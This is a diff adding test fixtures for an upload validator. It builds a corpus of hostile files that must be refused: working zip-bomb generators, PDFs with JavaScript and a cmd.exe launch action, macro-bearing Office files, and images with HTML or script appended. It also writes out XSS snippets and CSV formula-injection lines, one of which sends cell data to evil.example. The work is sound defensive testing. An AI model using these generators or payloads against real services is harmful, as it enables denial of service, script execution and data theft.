@@ -82,3 +82,231 @@ def upload(name: str, content: bytes | None = None) -> SimpleUploadedFile:
     if content is None:
         content = ALLOWED[name][0]
     return SimpleUploadedFile(name, content)
+
+
+# The hostile corpus: files that were stored although they should not have been, or that cost the server seconds to
+# check. Built here, byte by byte, so no binary blob is committed.
+
+OOXML_TYPES = {
+    ".docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
+    ".xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+    ".pptx": (
+        "ppt/presentation.xml",
+        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
+    ),
+}
+ODF_TYPES = {
+    ".odt": "application/vnd.oasis.opendocument.text",
+    ".ods": "application/vnd.oasis.opendocument.spreadsheet",
+}
+
+
+def office(extension: str, *, main_type: str | None = None, extra: dict[str, bytes] | None = None) -> bytes:
+    """A small, well-formed Office or OpenDocument file; `main_type` overrides the main part's content type."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        if extension in ODF_TYPES:
+            archive.writestr(zipfile.ZipInfo("mimetype"), ODF_TYPES[extension], compress_type=zipfile.ZIP_STORED)
+            archive.writestr("content.xml", "<office:document-content/>")
+        else:
+            part, content_type = OOXML_TYPES[extension]
+            archive.writestr(
+                "[Content_Types].xml",
+                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+                f'<Override PartName="/{part}" ContentType="{main_type or content_type}"/></Types>',
+            )
+            archive.writestr("_rels/.rels", "<Relationships/>")
+            archive.writestr(part, "<x/>")
+        for name, data in (extra or {}).items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def zip_bomb(extension: str, *, entry_bytes: int = 64 * 1024 * 1024, copies: int = 32) -> bytes:
+    """A valid-looking document whose central directory lists one highly compressed entry `copies` times (the
+    entries overlap): a few tens of KB that unpack to `entry_bytes * copies`."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        if extension in ODF_TYPES:
+            archive.writestr(zipfile.ZipInfo("mimetype"), ODF_TYPES[extension], compress_type=zipfile.ZIP_STORED)
+            body = "content.xml"
+        else:
+            part, content_type = OOXML_TYPES[extension]
+            archive.writestr(
+                "[Content_Types].xml",
+                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+                f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>',
+            )
+            archive.writestr("_rels/.rels", "<Relationships/>")
+            body = part
+        with archive.open(body, "w", force_zip64=True) as entry:
+            chunk = b"\x00" * (1024 * 1024)
+            for _ in range(entry_bytes // len(chunk)):
+                entry.write(chunk)
+        bomb = archive.getinfo(body)
+        for number in range(1, copies):
+            twin = zipfile.ZipInfo(body, date_time=bomb.date_time)
+            twin.compress_type, twin.CRC = bomb.compress_type, bomb.CRC
+            twin.compress_size, twin.file_size, twin.header_offset = (
+                bomb.compress_size,
+                bomb.file_size,
+                bomb.header_offset,
+            )
+            twin.extract_version, twin.create_version, twin.flag_bits = (
+                bomb.extract_version,
+                bomb.create_version,
+                bomb.flag_bits,
+            )
+            twin.extra = bomb.extra
+            archive.filelist.append(twin)
+    return buffer.getvalue()
+
+
+def lying_bomb(extension: str = ".docx", *, real_bytes: int = 64 * 1024 * 1024) -> bytes:
+    """One entry that declares a size of 1 KB but inflates to `real_bytes`: declared sizes can lie."""
+    data = bytearray(zip_bomb(extension, entry_bytes=real_bytes, copies=1))
+    end = data.rfind(b"PK\x05\x06")
+    offset = int.from_bytes(data[end + 16 : end + 20], "little")
+    if offset == 0xFFFFFFFF:
+        locator = data.rfind(b"PK\x06\x07")
+        zip64_end = int.from_bytes(data[locator + 8 : locator + 16], "little")
+        offset = int.from_bytes(data[zip64_end + 48 : zip64_end + 56], "little")
+    # Rewrite the last central directory entry (the big part) to claim 1 KB, with no zip64 extra left to contradict it.
+    last = data.rfind(b"PK\x01\x02", offset, end)
+    data[last + 20 : last + 24] = (1024).to_bytes(4, "little")
+    data[last + 24 : last + 28] = (1024).to_bytes(4, "little")
+    return bytes(data)
+
+
+def many_entries(extension: str = ".xlsx", entries: int = 60_000) -> bytes:
+    """A document whose central directory lists tens of thousands of empty parts."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
+        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
+        archive.writestr(OOXML_TYPES[extension][0], "<x/>")
+        for number in range(entries):
+            archive.writestr(f"xl/p{number}.xml", b"")
+    return buffer.getvalue()
+
+
+def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
+    """A small PDF with extra objects; `tail` is appended after %%EOF."""
+    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
+    for number, obj in enumerate(objects, start=3):
+        body += b"%d 0 obj" % number + obj + b"endobj\n"
+    return body + b"trailer<</Root 1 0 R>>\n%%EOF\n" + tail
+
+
+def pdf_with_catalog(entry: bytes) -> bytes:
+    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + entry)
+
+
+def pdf_object_stream(hidden: bytes) -> bytes:
+    """A PDF whose /OpenAction sits inside a compressed object stream, where a plain scan does not see it."""
+    import zlib
+
+    packed = zlib.compress(b"3 0 " + hidden)
+    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed
+    return pdf(stream + b"\nendstream")
+
+
+def jpeg_with(tail: bytes) -> bytes:
+    return _image("JPEG") + tail
+
+
+def png_with(tail: bytes) -> bytes:
+    return _image("PNG") + tail
+
+
+def png_with_text(text: bytes) -> bytes:
+    """HTML inside a PNG text chunk: no data after IEND, but markup a browser sniffing the file would run."""
+    import struct
+    import zlib
+
+    image = _image("PNG")
+    chunk = b"tEXt" + b"Comment\x00" + text
+    packed = struct.pack(">I", len(text) + 8) + chunk + struct.pack(">I", zlib.crc32(chunk))
+    return image[:33] + packed + image[33:]
+
+
+HTML_TAIL = b"<html><body><script>alert(document.cookie)</script></body></html>"
+
+# name -> bytes; every one must be refused (the uploader told why) and none stored.
+HOSTILE = {
+    "bomb.docx": lambda: zip_bomb(".docx"),
+    "bomb.xlsx": lambda: zip_bomb(".xlsx"),
+    "bomb.pptx": lambda: zip_bomb(".pptx"),
+    "bomb.odt": lambda: zip_bomb(".odt"),
+    "bomb.ods": lambda: zip_bomb(".ods"),
+    "lying-bomb.docx": lambda: lying_bomb(".docx"),
+    "many-parts.xlsx": lambda: many_entries(".xlsx"),
+    "javascript.pdf": lambda: pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
+    "js-action.pdf": lambda: pdf(b"<</S/Foo/JS 4 0 R>>"),
+    "open-action.pdf": lambda: pdf_with_catalog(b"/OpenAction 3 0 R"),
+    "launch.pdf": lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"),
+    "page-action.pdf": lambda: pdf(b"<</Type/Page/AA<</O 4 0 R>>>>"),
+    "escaped-name.pdf": lambda: pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
+    "object-stream.pdf": lambda: pdf_object_stream(b"<</OpenAction<</S/JavaScript/JS(x)>>>>"),
+    "embedded-file.pdf": lambda: pdf(b"<</Type/EmbeddedFile/Length 3>>stream\nMZ!\nendstream\n"),
+    "pdf-zip.pdf": lambda: PDF + _zip(),
+    "macro-type.docx": lambda: office(".docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
+    "vba-project.docx": lambda: office(".docx", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
+    "vba-project.xlsx": lambda: office(".xlsx", extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
+    "basic-macro.odt": lambda: office(".odt", extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
+    "jpeg-html.jpg": lambda: jpeg_with(HTML_TAIL),
+    "png-html.png": lambda: png_with(HTML_TAIL),
+    "png-text-html.png": lambda: png_with_text(HTML_TAIL),
+    "script.txt": lambda: b"Minutes of the meeting.\n<script>alert(1)</script>\n",
+    "onerror.txt": lambda: b"Minutes\n<img src=x onerror=alert(1)>\n",
+    "javascript-link.txt": lambda: b"Read more at javascript:alert(document.domain)\n",
+    "style.txt": lambda: b"Notes\n<style>body{background:url(//evil.example/x)}</style>\n",
+    "form.txt": lambda: b'Notes\n<form action="//evil.example"><input name=password></form>\n',
+    "iframe.txt": lambda: b'Notes\n<iframe src="//evil.example"></iframe>\n',
+    "binary-tail.txt": lambda: b"Plain minutes of the meeting.\n" * 40_000 + b"\x01\x02\x1b[31m\x7f\x08 MZ\x90",
+    "nul-tail.txt": lambda: b"Plain minutes of the meeting.\n" * 40_000 + b"\x00\x00MZ\x90\x00",
+    "formula.csv": lambda: b'name,score\nBEL,4\nCOM,=HYPERLINK("http://evil.example?"&A1,"Click")\n',
+    "plus.csv": lambda: b"name,score\nBEL,4\nCOM,+cmd|' /C calc'!A0\n",
+    "minus.csv": lambda: b"name,score\nBEL,4\nCOM,-2+3+cmd|' /C calc'!A0\n",
+    "at.csv": lambda: b"name,score\nBEL,4\nCOM,@SUM(1+1)*cmd|' /C calc'!A0\n",
+    "tab-formula.csv": lambda: b'name,score\nBEL,4\nCOM,"\t=1+1"\n',
+    "quoted-formula.csv": lambda: b'name,score\nBEL,4\n"COM","=1+2"\n',
+}
+
+# Files that look odd but are fine, and must still be accepted.
+BENIGN = {
+    "negative.csv": b"name,change\nBEL,-5\nCOM,-3.25\nBOU,+2\nRES,1e-3\n",
+    "utf16.txt": "Community meeting – everyone agreed the rota.\n".encode("utf-16"),
+    "utf8-bom.txt": "\ufeffCommunity meeting – everyone agreed the rota.\n".encode(),
+    "cp1252.txt": "Café meeting – everyone agreed.\n".encode("cp1252"),
+    "maths.txt": b"The score went from 3 < 4 and 5 > 2; see form 12 and the style guide.\n",
+}
+
+
+def big_docx(size: int = 5 * 1024 * 1024) -> bytes:
+    """A normal Word document of about `size` bytes: text parts plus photos that do not compress."""
+    import random
+
+    noise = random.Random(12)
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        part, content_type = OOXML_TYPES[".docx"]
+        archive.writestr(
+            "[Content_Types].xml",
+            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>',
+        )
+        archive.writestr("_rels/.rels", "<Relationships/>")
+        words = " ".join(noise.choice(["care", "team", "meeting", "value", "people", "rota"]) for _ in range(400_000))
+        archive.writestr(part, f"<w:document><w:body>{words}</w:body></w:document>")
+        for number in range(4):
+            archive.writestr(f"word/media/image{number}.jpeg", noise.randbytes(size // 5))
+    return buffer.getvalue()
+
+
+def big_pdf(size: int = 5 * 1024 * 1024) -> bytes:
+    """A normal PDF of about `size` bytes: one page with a large compressed image stream."""
+    import random
+
+    noise = random.Random(7).randbytes(size)
+    image = b"<</Type/XObject/Subtype/Image/Width 1000/Height 1000/Filter/DCTDecode/Length %d>>stream\n" % len(noise)
+    return pdf(b"<</Type/Page/Parent 2 0 R/Resources<</XObject<</Im1 4 0 R>>>>>>", image + noise + b"\nendstream\n")
